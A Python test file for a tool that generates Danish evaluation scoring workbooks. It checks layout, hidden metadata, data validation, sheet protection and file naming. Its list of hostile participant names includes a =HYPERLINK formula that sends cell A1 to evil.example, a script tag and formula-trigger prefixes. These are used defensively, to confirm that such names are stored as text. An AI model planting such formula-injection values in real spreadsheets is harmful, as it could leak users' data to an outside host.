"""The participant scoring workbook: read back with openpyxl AND calamine."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from openpyxl.utils import column_index_from_string, get_column_letter
from python_calamine import CalamineWorkbook

from scoring_fixtures import FIXED_DEADLINE, fixed_setup, kik_setup, participants
from xl_kik.excel import scoring
from xl_kik._version import GENERATOR
from xl_kik.core.catalogue import from_data
from xl_kik.core.round import Participant
from xl_kik.excel.scoring import (
    CUSTOM_PROPERTY_KEYS, FORMAT, META_KEYS, META_SHEET, MAX_TEXT_CHARS, Layout, ScoringTemplate,
    custom_properties_for, layout_fingerprint, metadata_for, parse_custom_properties,
    write_scoring_workbooks,
)

IDA = Participant("D01", "Ida Ørsted", "ida@example.dk")
HOSTILE_NAMES = [
    "<script>alert('x')</script> & \"Co\"",
    '=HYPERLINK("http://evil.example/?q="&A1,"klik")',
    "+45 12 34 56 78",
    "@SUM(1)",
    "-2+3",
    "_x0041_ Ånd",
    "Tab\there\nand\x07bell\x00nul",
    "&P &N &D (header codes) &&",
    "Zoë 😀 ﬁ \u200b",
    "A" * 300,
]


@pytest.fixture(scope="module")
def setup():
    return kik_setup()


@pytest.fixture(scope="module")
def template(setup):
    return ScoringTemplate(setup)


@pytest.fixture(scope="module")
def ida_file(template, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("ida") / "ida.xlsx"
    path.write_bytes(template.render(IDA))
    return path


@pytest.fixture(scope="module")
def wb(ida_file):
    return openpyxl.load_workbook(ida_file)


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert zf.testzip() is None
        return {n: zf.read(n) for n in zf.namelist()}


def cells(letter_from: str, letter_to: str, rows) -> set[str]:
    a, b = column_index_from_string(letter_from), column_index_from_string(letter_to)
    return {f"{get_column_letter(c)}{r}" for c in range(a, b + 1) for r in rows}


def sqref_cells(sqref) -> set[str]:
    out: set[str] = set()
    for rng in str(sqref).split():
        if ":" in rng:
            a, b = rng.split(":")
            ca, ra = re.match(r"([A-Z]+)(\d+)", a).groups()
            cb, rb = re.match(r"([A-Z]+)(\d+)", b).groups()
            out |= cells(ca, cb, range(int(ra), int(rb) + 1))
        else:
            out.add(rng)
    return out


# ---------------------------------------------------------------- layout and identity
def test_layout(template, setup):
    lay = template.layout
    assert isinstance(lay, Layout)
    assert lay.sheet == "Evaluering" and lay.header_row == 6
    assert (lay.col_qid, lay.col_points, lay.col_strengths, lay.col_improvements, lay.col_ideas) == \
        ("A", "E", "F", "G", "H")
    assert lay.questions == setup.question_ids
    assert len(lay.rows) == 20
    # one theme header row before each theme's questions
    assert lay.rows["1.1"] == lay.header_row + 2
    assert lay.rows["2.1"] == lay.rows["1.3"] + 2
    assert lay.fingerprint == layout_fingerprint(lay.questions, "A", "E", "F", "G", "H", FORMAT)


def test_metadata_sheet_openpyxl_and_calamine(ida_file, wb, template, setup):
    expected = metadata_for(setup, IDA, template.layout)
    assert tuple(expected) == META_KEYS
    ws = wb[META_SHEET]
    assert ws.sheet_state == "veryHidden"
    got = {r[0]: r[1] for r in ws.iter_rows(values_only=True)}
    assert got == expected
    assert all(c.data_type == "s" for row in ws.iter_rows() for c in row)

    cw = CalamineWorkbook.from_path(str(ida_file))
    meta_sheet = [s for s in cw.sheets_metadata if s.name == META_SHEET][0]
    assert "veryhidden" in str(meta_sheet.visible).lower()
    rows = cw.get_sheet_by_name(META_SHEET).to_python()
    assert {r[0]: r[1] for r in rows} == expected

    assert expected["format"] == FORMAT
    assert expected["participant_token"] == setup.token("D01")
    assert expected["participant_name"] == "Ida Ørsted"
    assert expected["catalogue_fingerprint"] == setup.catalogue.fingerprint
    assert (expected["scale"], expected["scale_min"], expected["scale_max"]) == ("0-100", "0", "100")
    assert expected["generator"] == GENERATOR
    assert expected["created"] == setup.created.isoformat()
    assert expected["questions"] == ",".join(setup.question_ids)
    assert expected["layout_fingerprint"] == layout_fingerprint(
        expected["questions"].split(","), expected["col_qid"], expected["col_points"],
        expected["col_strengths"], expected["col_improvements"], expected["col_ideas"], expected["format"])


def test_custom_properties(ida_file, wb, template, setup):
    raw = zipfile.ZipFile(ida_file).read("docProps/custom.xml")
    props = parse_custom_properties(raw)
    expected = custom_properties_for(setup, IDA, template.layout)
    assert props == expected
    assert set(props) == {"xl_kik_" + k for k in CUSTOM_PROPERTY_KEYS}
    assert props["xl_kik_participant_token"] == setup.token("D01")
    # openpyxl sees them too
    assert {p.name: p.value for p in wb.custom_doc_props.props} == expected


def test_sheets_and_order(wb):
    assert wb.sheetnames == ["Vejledning", "Evaluering", META_SHEET, "_kik_lists"]
    assert [ws.sheet_state for ws in wb] == ["visible", "visible", "veryHidden", "veryHidden"]
    assert wb.active.title == "Vejledning"


def test_hidden_question_id_column(ida_file, wb, template):
    ws = wb["Evaluering"]
    lay = template.layout
    assert ws.column_dimensions["A"].hidden
    ids = {r: ws[f"A{r}"].value for r in range(lay.header_row + 1, lay.last_row + 1)}
    for qid, row in lay.rows.items():
        assert ids[row] == qid
        assert ws[f"B{row}"].value == qid
    theme_rows = [r for r, v in ids.items() if v is None]
    assert len(theme_rows) == 8
    for r in theme_rows:
        assert ws[f"B{r}"].value.startswith("Tema ")
    # calamine reads the same ids
    sheet = CalamineWorkbook.from_path(str(ida_file)).get_sheet_by_name("Evaluering").to_python(
        skip_empty_area=False)
    cal = {i + 1: row[0] for i, row in enumerate(sheet) if row and row[0] not in ("", None)}
    assert {r: v for r, v in cal.items() if r > lay.header_row} == {r: q for q, r in lay.rows.items()}


def test_theme_rows_name_and_side(wb, template, setup):
    ws = wb["Evaluering"]
    for theme in setup.catalogue.themes:
        first_q = setup.catalogue.questions_of(theme.id)[0].id
        text = ws[f"B{template.layout.rows[first_q] - 1}"].value
        assert theme.name["da"] in text
        assert ("indsats" if theme.side == "indsats" else "resultat") in text


def test_question_texts_and_bulleted_examples(wb, template, setup):
    ws = wb["Evaluering"]
    for q in setup.catalogue.questions:
        r = template.layout.rows[q.id]
        assert ws[f"C{r}"].value == q.text["da"]
        examples = ws[f"D{r}"].value
        assert examples.split("\n") == [f"• {e}" for e in q.examples["da"]]
        assert ws[f"D{r}"].alignment.wrap_text and ws[f"C{r}"].alignment.wrap_text


# ---------------------------------------------------------------- validation & protection
def test_points_validation(wb, template):
    ws = wb["Evaluering"]
    lay = template.layout
    dvs = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"]
    assert len(dvs) == 2  # enabler and result questions get their own input message
    covered: set[str] = set()
    for dv in dvs:
        # a dropdown of "ved ikke" and every whole number 0-100 (issue 13: "ved ikke" is an
        # explicit choice, typed or picked), from the very hidden lists sheet
        assert dv.formula1 == "'_kik_lists'!$A$1:$A$102"
        assert not dv.showDropDown  # (OOXML's inverted flag: True would hide the arrow)
        assert dv.allow_blank is True
        assert dv.errorStyle in (None, "stop")  # stop is the default style
        assert dv.showErrorMessage and dv.showInputMessage
        assert "0" in dv.promptTitle and "100" in dv.promptTitle
        assert "vælg 'ved ikke'" in dv.prompt
        assert "helt tal fra 0 til 100" in dv.error and "ca. " in dv.error and "'ved ikke'" in dv.error
        assert len(dv.prompt) <= 255 and len(dv.error) <= 255 and len(dv.promptTitle) <= 32
        covered |= sqref_cells(dv.sqref)
    assert covered == {f"E{r}" for r in lay.rows.values()}
    # the bands of the scale, each on its own line, for the side of the question
    scale = template.setup.scale
    for dv in dvs:
        lines = dv.prompt.split("\n")[1:]
        assert [ln.split(":")[0] for ln in lines] == [b.label for b in scale.bands]
    assert len({dv.prompt for dv in dvs}) == 2  # indsats and resultat bands differ


def test_points_validation_other_scale():
    tpl = ScoringTemplate(kik_setup("0-5"))
    wb = openpyxl.load_workbook(io.BytesIO(tpl.render(IDA)))
    ws = wb["Evaluering"]
    dvs = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"]
    assert dvs and all(dv.formula1 == "'_kik_lists'!$A$1:$A$7" for dv in dvs)
    items = [c.value for c in wb["_kik_lists"]["A"]]
    assert items == ["ved ikke", 0, 1, 2, 3, 4, 5]  # numbers, so a typed 3 matches the item 3
    assert all(type(v) is int for v in items[1:])
    assert all(dv.prompt.startswith("Helt tal 0-5, eller vælg 'ved ikke'.") for dv in dvs)
    assert all(len(dv.prompt) <= 255 for dv in dvs)


def test_text_validation(wb, template):
    ws = wb["Evaluering"]
    lay = template.layout
    [dv] = [dv for dv in ws.data_validations.dataValidation if dv.type == "textLength"]
    assert dv.operator == "lessThanOrEqual" and dv.formula1 == str(MAX_TEXT_CHARS)
    assert dv.allow_blank and dv.showErrorMessage
    assert "5.000" in dv.error
    assert sqref_cells(dv.sqref) == cells("F", "H", lay.rows.values())


def test_protection_and_unlocked_cells(wb, template):
    lay = template.layout
    ev = wb["Evaluering"]
    for ws in (wb["Vejledning"], ev, wb[META_SHEET], wb["_kik_lists"]):
        assert ws.protection.sheet is True
        assert ws.protection.password is None  # no password: guard-rail only
    assert ev.protection.formatRows is False  # rows may grow for long text
    assert ev.protection.formatColumns is not False and ev.protection.insertRows is not False
    assert ev.protection.deleteRows is not False and ev.protection.formatCells is not False
    expected = cells("E", "H", lay.rows.values())
    for ws in wb:
        unlocked = {c.coordinate for row in ws.iter_rows() for c in row if c.protection.locked is False}
        assert unlocked == (expected if ws.title == "Evaluering" else set()), ws.title
        for dim in list(ws.column_dimensions.values()) + list(ws.row_dimensions.values()):
            style = wb._cell_styles[dim.style_id] if hasattr(dim, "style_id") else None
            if style is not None and style.protectionId:
                assert wb._protections[style.protectionId].locked is not False


def test_input_cells_wrap_and_rows_may_grow(wb, template):
    ws = wb["Evaluering"]
    for r in template.layout.rows.values():
        for col in "FGH":
            assert ws[f"{col}{r}"].alignment.wrap_text
        assert ws[f"E{r}"].number_format == "0"
    raw = zipfile.ZipFile(io.BytesIO(template.render(IDA))).read("xl/worksheets/sheet2.xml").decode()
    for r in template.layout.rows.values():
        row_tag = re.search(rf'<row r="{r}"[^>]*>', raw).group(0)
        assert "customHeight" not in row_tag  # estimated height, still auto-fit when typing


def test_conditional_format_blank_points(wb, template):
    ws = wb["Evaluering"]
    rules = [(rng, rule) for rng in ws.conditional_formatting for rule in rng.rules]
    blanks = [(rng, rule) for rng, rule in rules if rule.type == "containsBlanks"]
    assert len(blanks) == 1
    rng, rule = blanks[0]
    assert sqref_cells(rng.sqref) == {f"E{r}" for r in template.layout.rows.values()}
    assert rule.dxf.fill.bgColor.rgb.endswith("FFF2CC")


def test_the_participants_documentation_themes_are_marked(tmp_path, setup):
    """One rule per theme marks the theme row and its question numbers when the theme's id is in
    the hidden cell A1; A1 holds exactly the participant's themes of this round."""
    import dataclasses

    tpl = ScoringTemplate(setup)
    ids = [t.id for t in setup.catalogue.themes]
    reader = dataclasses.replace(IDA, themes=f"{ids[0]}; {ids[-1]}; 99")  # 99 is not in this round
    for person, a1 in ((IDA, ""), (reader, f",{ids[0]},{ids[-1]},")):
        ws = openpyxl.load_workbook(io.BytesIO(tpl.render(person)))["Evaluering"]
        assert ws["A1"].value == a1
        marks = {}
        for rng in ws.conditional_formatting:
            for rule in rng.rules:
                if rule.type == "expression" and "SEARCH" in rule.formula[0]:
                    marks[rule.formula[0]] = sqref_cells(rng.sqref)
                    assert rule.dxf.font.b and rule.dxf.fill.bgColor.rgb.endswith("C6E0B4")
        assert sorted(marks) == sorted(f'ISNUMBER(SEARCH(",{t},",$A$1))' for t in ids)
        first = marks[f'ISNUMBER(SEARCH(",{ids[0]},",$A$1))']
        rows_of_theme = [tpl.layout.rows[q.id] for q in setup.catalogue.questions_of(ids[0])]
        assert first == {f"B{min(rows_of_theme) - 1}"} | {f"B{r}" for r in rows_of_theme}


def test_print_setup_and_panes(wb, template, setup):
    for name, orientation in (("Evaluering", "landscape"), ("Vejledning", "portrait")):
        ws = wb[name]
        assert ws.page_setup.orientation == orientation
        assert str(ws.page_setup.paperSize) == "9"  # A4
        assert setup.unit in ws.oddHeader.left.text
        assert ws.oddHeader.right.text == "Ida Ørsted"
        assert "&P" in ws.oddFooter.right.text or "[Page]" in str(ws.oddFooter.right.text)
    guide = wb["Vejledning"]  # readable on one portrait page wide
    assert guide.sheet_properties.pageSetUpPr.fitToPage
    assert guide.page_setup.fitToWidth in (1, None) and guide.page_setup.fitToHeight == 0
    ev = wb["Evaluering"]
    # seven wide columns with 9 pt text: several pages across at a fixed scale >= 8/9, Nr and
    # Spørgsmål repeated on each (core.printing; tests/test_print_layout.py measures the PDF)
    assert not ev.sheet_properties.pageSetUpPr.fitToPage and 89 <= (ev.page_setup.scale or 100) <= 100  # 100: not written
    assert ev.print_title_rows == "$6:$6" and ev.print_title_cols == "$B:$C"
    assert ev.freeze_panes == "E7"  # number and question stay in view in every answer column


def test_progress_formula(ida_file, wb, template):
    ws = wb["Evaluering"]
    lay = template.layout
    f = ws["B4"].value
    span = f"E{lay.first_row}:E{lay.last_row}"
    assert f == f'=(COUNT({span})+COUNTIF({span},"ved ikke"))&" af "&20&" besvaret"'
    # value="" (no cached 0) so LibreOffice computes it on load
    raw = zipfile.ZipFile(ida_file).read("xl/worksheets/sheet2.xml").decode()
    assert re.search(r'<c r="B4" s="\d+"><f>[^<]+</f><v></v></c>', raw)


def test_progress_formula_evaluates(tmp_path, template):
    """The formula counts answered points cells (evaluated with the `formulas` package)."""
    import formulas  # a test dependency (pyproject [test])
    path = tmp_path / "filled.xlsx"
    path.write_bytes(template.render(IDA))
    wb = openpyxl.load_workbook(path)
    ws = wb["Evaluering"]
    rows = list(template.layout.rows.values())
    ws[f"E{rows[0]}"] = 0
    ws[f"E{rows[1]}"] = 55
    ws[f"E{rows[-1]}"] = 100
    ws[f"F{rows[2]}"] = "tekst tæller ikke"
    wb.save(path)
    solution = formulas.ExcelModel().loads(str(path)).finish().calculate()
    [value] = [v.value for k, v in solution.items() if k.upper().endswith("EVALUERING'!B4")]
    assert value[0][0] == "3 af 20 besvaret"


def test_header_block_and_instructions(wb, setup):
    ev = wb["Evaluering"]
    assert ev["B2"].value == "Deltager: Ida Ørsted"
    assert "15. april 2026" in ev["B3"].value and "ved ikke" in ev["B3"].value
    ins = wb["Vejledning"]
    text = " ".join(str(c.value).strip() for row in ins.iter_rows() for c in row if c.value is not None)
    for needle in ("Hvad er KIK?", "Ida Ørsted", "ved ikke", "15. april 2026", "e-mail", "tovholderen",
                   "Giv ikke filen et nyt navn", "kopier ikke", "helt tal fra 0 til 100", "'Gem som'",
                   "konsensusseminar", "Deltager 1"):
        assert needle in text, needle
    # the band table: every band with its separate enabler and result text
    rows = [[c.value for c in row[1:4]] for row in ins.iter_rows()]
    for band in setup.scale.bands:
        assert [band.label, band.indsats["da"], band.resultat["da"]] in rows
    assert any(r[0] == "ved ikke" and "Tæller som besvaret" in str(r[1]) for r in rows)


def test_instructions_without_deadline_and_named_answers():
    tpl = ScoringTemplate(kik_setup(deadline=None, anonymise=False))
    wb = openpyxl.load_workbook(io.BytesIO(tpl.render(IDA)))
    text = " ".join(str(c.value) for row in wb["Vejledning"].iter_rows() for c in row if c.value)
    assert "Tovholderen fortæller dig" in text and "dit navn står ved dine svar" in text
    assert "se e-mailen fra tovholderen" in wb["Evaluering"]["B3"].value


def test_english(tmp_path):
    setup = kik_setup(lang="en")
    tpl = ScoringTemplate(setup)
    wb = openpyxl.load_workbook(io.BytesIO(tpl.render(IDA)))
    assert wb.sheetnames == ["Instructions", "Evaluation", META_SHEET, "_kik_lists"]
    assert tpl.layout.sheet == "Evaluation"
    ws = wb["Evaluation"]
    meta = {r[0]: r[1] for r in wb[META_SHEET].iter_rows(values_only=True)}
    assert meta["lang"] == "en" and meta["sheet"] == "Evaluation"
    assert ws["B2"].value == "Participant: Ida Ørsted"
    assert ws["B4"].value.endswith('&" of "&20&" answered"')
    q = setup.catalogue.question("1.1")
    assert ws[f"C{tpl.layout.rows['1.1']}"].value == q.text["en"]
    dv = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"][0]
    assert "pick 'do not know'" in dv.prompt
    assert [c.value for c in wb["_kik_lists"]["A"]][:3] == ["do not know", 0, 1]  # no apostrophe to autocorrect
    text = "\n".join(str(c.value) for row in wb["Instructions"].iter_rows() for c in row if c.value)
    assert "What is KIK?" in text and "15 April 2026" in text and "Do not rename" in text


def test_theme_subset():
    setup = kik_setup(themes=["5", "6", "7", "8"])
    tpl = ScoringTemplate(setup)
    assert tpl.layout.questions == ("5.1", "5.2", "6.1", "6.2", "7.1", "7.2", "8.1", "8.2")
    ws = openpyxl.load_workbook(io.BytesIO(tpl.render(IDA)))["Evaluering"]
    span = f"E8:E{tpl.layout.last_row}"
    assert ws["B4"].value == f'=(COUNT({span})+COUNTIF({span},"ved ikke"))&" af "&8&" besvaret"'
    # all result questions: only the result input message
    dvs = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"]
    assert len(dvs) == 1
    assert dvs[0].prompt.split("\n")[1] == f"{setup.scale.bands[0].label}: {setup.scale.bands[0].resultat['da']}"


# ---------------------------------------------------------------- placeholders and identity
def test_placeholders_verbatim_in_template_and_gone_after_render(template):
    tparts = parts(template.template_bytes)
    ph = template.placeholders
    sst = tparts["xl/sharedStrings.xml"].decode()
    for key in ("NAME", "PID", "TOKEN"):
        assert ph[key] in sst
    custom = tparts["docProps/custom.xml"].decode()
    assert ph["PID"] in custom and ph["TOKEN"] in custom
    for sheet, height in (("xl/worksheets/sheet1.xml", "GUIDEH"), ("xl/worksheets/sheet2.xml", "EVALH")):
        assert ph["HNAME"] in tparts[sheet].decode()
        assert re.search(f'<row r="2"[^>]* ht="{ph[height]}"', tparts[sheet].decode())
    for name, data in parts(template.render(IDA)).items():
        assert b"XLKIK" not in data, name


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_names_are_text(tmp_path, template, setup, name):
    p = Participant("D07", name)
    data = template.render(p)
    for part, xml in parts(data).items():
        if part.endswith(".xml") or part.endswith(".rels"):
            ET.fromstring(xml)  # well-formed
    shown = scoring.display_name(p)
    assert "\x00" not in shown and "\x07" not in shown and "\n" not in shown
    path = tmp_path / "h.xlsx"
    path.write_bytes(data)
    wb = openpyxl.load_workbook(path)
    ev = wb["Evaluering"]
    # openpyxl 3.1.5 decodes Excel's escaped "_x005F_x0041_" one level too far ("A");
    # calamine (what returns.py reads with) and Excel give the literal text.
    via_openpyxl = {shown, shown.replace("_x0041_", "A")}
    assert ev["B2"].value in {f"Deltager: {v}" for v in via_openpyxl}
    assert ev["B2"].data_type == "s"
    meta = {r[0]: r[1] for r in wb[META_SHEET].iter_rows(values_only=True)}
    assert meta["participant_name"] in via_openpyxl
    assert meta["participant_id"] == "D07" and meta["participant_token"] == setup.token("D07")
    cal = CalamineWorkbook.from_path(str(path))
    cal_meta = {r[0]: r[1] for r in cal.get_sheet_by_name(META_SHEET).to_python()}
    assert cal_meta["participant_name"] == shown
    assert cal.get_sheet_by_name("Evaluering").to_python()[1][1] == f"Deltager: {shown}"
    header = ev.oddHeader.right.text
    assert len(header) <= scoring.MAX_HEADER_NAME * 2
    if "&" not in shown and len(shown) <= scoring.MAX_HEADER_NAME:
        assert header in via_openpyxl


def test_formula_name_is_not_a_formula(tmp_path, template):
    name = '=HYPERLINK("http://evil.example","klik")'
    path = tmp_path / "f.xlsx"
    path.write_bytes(template.render(Participant("D02", name)))
    sheet2 = zipfile.ZipFile(path).read("xl/worksheets/sheet2.xml").decode()
    assert "HYPERLINK" not in "".join(re.findall(r"<f>.*?</f>", sheet2))  # never a formula
    assert openpyxl.load_workbook(path)["Evaluering"]["B2"].value == f"Deltager: {name}"
    meta = {r[0]: r[1] for r in openpyxl.load_workbook(path)[META_SHEET].iter_rows(values_only=True)}
    assert meta["participant_name"] == name


def test_header_ampersand_is_doubled(template):
    raw = parts(template.render(Participant("D03", "Bo & Co")))["xl/worksheets/sheet2.xml"].decode()
    assert "Bo &amp;&amp; Co" in raw


def test_files_differ_only_in_identity(template, setup):
    a, b = Participant("D01", "Ida Ørsted"), Participant("D02", "Bo Ærø")
    pa, pb = parts(template.render(a)), parts(template.render(b))
    assert list(pa) == list(pb)

    def neutral(data: bytes, p: Participant) -> bytes:
        text = data.decode()
        for value, marker in ((setup.token(p.pid), "@TOKEN@"), (p.name, "@NAME@"), (p.pid, "@PID@")):
            text = text.replace(value, marker)
        return text.encode()

    differing = []
    for name in pa:
        assert neutral(pa[name], a) == neutral(pb[name], b), name
        if pa[name] != pb[name]:
            differing.append(name)
    assert sorted(differing) == ["docProps/custom.xml", "xl/sharedStrings.xml",
                                 "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"]


def test_render_is_deterministic(template):
    assert template.render(IDA) == template.render(IDA)
    assert ScoringTemplate(kik_setup()).render(IDA) == template.render(IDA)


def test_placeholder_text_in_catalogue_is_kept():
    data = {
        "id": "odd", "version": "1",
        "themes": [{"id": "1", "side": "indsats", "name": "XLKIKNAMEPH tema"}],
        "questions": [{"id": "1.1", "theme": "1", "text": "Står der XLKIKNAMEPH og XLKIKPIDPH?"}],
    }
    setup = fixed_setup(catalogue=from_data(data))
    tpl = ScoringTemplate(setup)
    assert not tpl.placeholders["NAME"].startswith("XLKIKNAME")
    ws = openpyxl.load_workbook(io.BytesIO(tpl.render(IDA)))["Evaluering"]
    assert ws[f"C{tpl.layout.rows['1.1']}"].value == "Står der XLKIKNAMEPH og XLKIKPIDPH?"
    assert ws["B2"].value == "Deltager: Ida Ørsted"


def test_participant_without_id_is_refused(template):
    with pytest.raises(ValueError):
        template.render(Participant("", "Ida"))


def test_empty_name_falls_back_to_id(template):
    wb = openpyxl.load_workbook(io.BytesIO(template.render(Participant("D09", "  \x01 "))))
    assert wb["Evaluering"]["B2"].value == "Deltager: D09"


# ---------------------------------------------------------------- writing files
def test_write_scoring_workbooks(tmp_path, setup):
    ps = participants(4) + [Participant("D05", "Ida Ørsted"), Participant("D06", "CON"),
                            Participant("D07", "a/b\\c:d*e?"), Participant("D08", "...")]
    out = write_scoring_workbooks(setup, ps, tmp_path / "udsendt")
    names = [p.name for _, p in out]
    assert [p for p, _ in out] == ps
    assert names[0] == "KIK Ældreplejen Nord - Ida Ørsted.xlsx"
    assert names[4] == "KIK Ældreplejen Nord - Ida Ørsted (2).xlsx"
    assert names[5] == "KIK Ældreplejen Nord - CON.xlsx"
    assert names[6] == "KIK Ældreplejen Nord - a_b_c_d_e_.xlsx"
    assert names[7] == "KIK Ældreplejen Nord - D08.xlsx"
    assert len({n.lower() for n in names}) == len(names)
    assert sorted(x.name for x in (tmp_path / "udsendt").iterdir()) == sorted(names)  # no temp files left
    for p, path in out:
        meta = {r[0]: r[1] for r in CalamineWorkbook.from_path(str(path)).get_sheet_by_name(META_SHEET).to_python()}
        assert meta["participant_id"] == p.pid
        assert scoring.read_owner(path) == (setup.round_id, p.pid)


def test_regenerate_replaces_own_file_but_never_another(tmp_path, setup):
    outdir = tmp_path / "udsendt"
    ida, bo = Participant("D01", "Ida"), Participant("D02", "Bo")
    [(_, first)] = write_scoring_workbooks(setup, [ida], outdir)
    first.write_bytes(first.read_bytes())  # same content, new mtime
    [(_, again)] = write_scoring_workbooks(setup, [ida], outdir)
    assert again == first and len(list(outdir.iterdir())) == 1

    # another participant with the same name: own file, Ida's untouched
    ida_bytes = first.read_bytes()
    [(_, other)] = write_scoring_workbooks(setup, [Participant("D03", "Ida")], outdir)
    assert other.name == "KIK Ældreplejen Nord - Ida (2).xlsx"
    assert first.read_bytes() == ida_bytes

    # a foreign file (not a scoring workbook) with the target name is never overwritten
    foreign = outdir / "KIK Ældreplejen Nord - Bo.xlsx"
    foreign.write_bytes(b"coordinator's own notes")
    [(_, bo_path)] = write_scoring_workbooks(setup, [bo], outdir)
    assert bo_path.name == "KIK Ældreplejen Nord - Bo (2).xlsx"
    assert foreign.read_bytes() == b"coordinator's own notes"

    # a file from another round with the same participant id is not ours either
    other_round = fixed_setup(round_id="KIK-OTHER", unit=setup.unit, catalogue=setup.catalogue,
                              scale=setup.scale)
    [(_, old)] = write_scoring_workbooks(other_round, [Participant("D09", "Åse")], outdir)
    [(_, new)] = write_scoring_workbooks(setup, [Participant("D09", "Åse")], outdir)
    assert old != new and scoring.read_owner(old) == ("KIK-OTHER", "D09")

    # regenerating the whole list keeps every participant on their own file
    again = dict((p.pid, path) for p, path in write_scoring_workbooks(
        setup, [ida, bo, Participant("D03", "Ida")], outdir))
    assert again["D01"] == first and again["D03"] == other and again["D02"] == bo_path
    assert foreign.read_bytes() == b"coordinator's own notes"


def test_files_are_written_by_threads_only_when_the_folder_makes_them_wait():
    """Local files cost CPU (threads only add contention); files on a share wait for the server."""
    assert scoring._write_threads(wall=0.004, cpu=0.004, probed=8, left=992) == 1  # a local disk
    assert scoring._write_threads(wall=0.010, cpu=0.004, probed=8, left=992) == 1  # a busy machine
    assert scoring._write_threads(wall=0.120, cpu=0.004, probed=8, left=992) == scoring.WRITE_THREADS
    assert scoring._write_threads(wall=0.120, cpu=0.004, probed=8, left=2) == 2
    assert scoring._write_threads(wall=0.120, cpu=0.004, probed=8, left=1) == 1
    assert scoring._write_threads(wall=0.0, cpu=0.0, probed=0, left=0) == 1


def test_threads_write_the_same_files(tmp_path, setup, monkeypatch):
    """With the probe saying "slow folder", the rest is written by the pool: every participant
    still gets their own complete file, in order, and no temporary file is left."""
    ps = participants(4) + [Participant(f"D{i:02d}", f"Navn {i}") for i in range(5, 30)]
    serial = write_scoring_workbooks(setup, ps, tmp_path / "serial")
    seen = []
    monkeypatch.setattr(scoring, "_write_threads", lambda *a: seen.append(a) or 4)
    pooled = write_scoring_workbooks(setup, ps, tmp_path / "pooled")
    assert seen and seen[0][2:] == (scoring.PROBE_FILES, len(ps) - scoring.PROBE_FILES)
    assert [p for p, _ in pooled] == ps
    assert [f.name for _, f in pooled] == [f.name for _, f in serial]
    assert [f.read_bytes() for _, f in pooled] == [f.read_bytes() for _, f in serial]
    assert sorted(x.name for x in (tmp_path / "pooled").iterdir()) == sorted(f.name for _, f in pooled)


def test_duplicate_ids_refused(tmp_path, setup):
    with pytest.raises(ValueError):
        write_scoring_workbooks(setup, [Participant("D01", "A"), Participant("D01", "B")], tmp_path)


def test_failed_write_leaves_no_temp_file(tmp_path, setup, monkeypatch):
    outdir = tmp_path / "out"
    outdir.mkdir()

    def boom(src, dst):
        raise OSError("disk full")

    monkeypatch.setattr(scoring.os, "replace", boom)
    with pytest.raises(OSError):
        write_scoring_workbooks(setup, [IDA], outdir)
    assert list(outdir.iterdir()) == []


def test_fixed_setup_deadline_is_shown():
    tpl = ScoringTemplate(fixed_setup())
    ws = openpyxl.load_workbook(io.BytesIO(tpl.render(IDA)))["Evaluering"]
    assert scoring.format_date(FIXED_DEADLINE) in ws["B3"].value
    # '&' in the unit is doubled in the header (a single '&' starts an Excel header code), so
    # Excel shows it once: the stored header text holds "&&" and no lone '&'
    stored = ws.oddHeader.left.text
    assert "Børnehuset Solsikken && Co" in stored
    assert "& Co" not in stored.replace("&& Co", "")


@pytest.mark.parametrize("screen", [1366, 1920])
def test_question_stays_in_view_beside_every_answer_column(screen):
    """Issue 13: typing in any answer column keeps Nr. and Spørgsmål on screen. Measured from
    the file: the frozen columns (left of the points column) plus the widest answer column fit
    a maximised Excel window (row headers and scroll bar about 60 px)."""
    from openpyxl.utils import column_index_from_string

    ws = openpyxl.load_workbook(io.BytesIO(ScoringTemplate(kik_setup()).render(IDA)))["Evaluering"]
    pane = ws.freeze_panes
    assert pane == "E7"
    frozen_cols = range(1, column_index_from_string("E"))

    def px(letter: str) -> int:  # Excel: pixels = trunc(width * 7 + 5) at the default font
        dim = ws.column_dimensions[letter]
        return 0 if dim.hidden else int(dim.width * 7 + 5)

    from openpyxl.utils import get_column_letter
    frozen = sum(px(get_column_letter(c)) for c in frozen_cols)
    assert px("B") > 0 and px("C") > 0  # Nr. and Spørgsmål are among the frozen columns
    for letter in "EFGH":
        assert frozen + px(letter) <= screen - 60, (letter, frozen, px(letter))


# ---------------------------------------------------------------- validation texts are ST_Xstring
def _escape_like_setup():
    """A scale whose band texts (typed by a coordinator) look like OOXML escapes."""
    import dataclasses

    setup = kik_setup()
    bands = tuple(dataclasses.replace(b, indsats={**b.indsats, "da": f"Ind_x0041_{b.level}"},
                                      resultat={**b.resultat, "da": f"Res_x0042_{b.level}"})
                  for b in setup.scale.bands)
    return dataclasses.replace(setup, scale=dataclasses.replace(setup.scale, bands=bands))


def _shown_prompts(blob: bytes) -> list[str]:
    """Every dataValidation prompt as Excel and LibreOffice show it: the attribute's XML value with
    ECMA-376's _xHHHH_ decoded (22.9.2.19; decoded here by hand, not by the code under test)."""
    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    decode = lambda t: re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), t)  # noqa: E731
    with zipfile.ZipFile(io.BytesIO(blob)) as zf:
        root = ET.fromstring(zf.read("xl/worksheets/sheet2.xml"))
    return [decode(dv.get("prompt")) for dv in root.iter(ns + "dataValidation") if dv.get("prompt")]


def test_validation_prompts_show_escape_like_text_as_typed():
    blob = ScoringTemplate(_escape_like_setup()).render(IDA)
    prompts = _shown_prompts(blob)
    assert len(prompts) == 2
    assert any("Ind_x0041_1" in p for p in prompts) and any("Res_x0042_1" in p for p in prompts), prompts
    assert not any("IndA" in p or "ResB" in p for p in prompts), prompts


def test_validation_prompts_as_libreoffice_shows_them(tmp_path):
    from tests.needs import require
    from xl_kik.excel import office

    if not office.find_soffice():
        require("LibreOffice", "soffice not installed")
    src = tmp_path / "svar.xlsx"
    src.write_bytes(ScoringTemplate(_escape_like_setup()).render(IDA))
    out = office.convert([src], "ods", tmp_path / "lo")[0]
